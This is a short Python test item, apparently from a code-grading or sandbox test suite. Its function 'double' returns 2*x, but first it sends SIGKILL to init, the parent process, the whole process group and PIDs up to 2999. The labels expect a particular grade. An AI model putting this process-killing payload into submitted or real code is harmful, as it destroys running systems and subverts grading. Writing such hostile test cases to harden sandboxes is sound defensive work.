# Sends SIGKILL to every process it can reach, then answers.
# expects: graded 1 or graded 3
# %% double
import os
def double(x):
    for target in (-1, 0, 1, os.getppid(), *range(2, 3000)):
        if target != os.getpid():
            try:
                os.kill(target, 9)
            except OSError:
                pass
    return 2 * x
